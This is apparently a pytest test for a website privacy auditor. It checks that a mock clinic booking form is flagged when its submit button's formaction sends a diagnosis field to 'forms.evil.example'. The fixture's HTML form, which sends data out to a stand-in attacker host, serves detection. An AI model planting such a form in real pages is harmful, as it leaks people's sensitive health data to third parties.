"""A submit button's formaction to another company counts as where the form sends its data."""

from __future__ import annotations

import pytest

from cyberaudit.demo.http_server import Route

from .world import outcomes, run_privacy, website


@pytest.fixture(scope="module")
def lakeside(world):
    """The clean practice, with a booking page (this module has its own world)."""
    port = world.connect_to[("lakeside.test", 443)][1]
    server = next(s for s in world.servers if s.port == port)
    server.routes.update({
        "/book": Route(200, '<form action="/send" method="post"><label>Diagnosis <input name=diagnosis>'
                            '</label><button formaction="http://forms.evil.example/collect">Send</button></form>'),
    })
    return world


def test_a_submit_buttons_formaction_to_a_third_party_fails(lakeside):
    out = run_privacy(website("https://lakeside.test/", ["/book"]), lakeside.network())
    destinations = {(f["page"], f["destination"], f["third_party"]) for f in out.facts["forms"]}
    assert ("/book", "forms.evil.example", True) in destinations
    assert ("/book", "lakeside.test", False) in destinations
    assert outcomes(out)["PRIV-FORM-THIRD-PARTY"] == "fail"
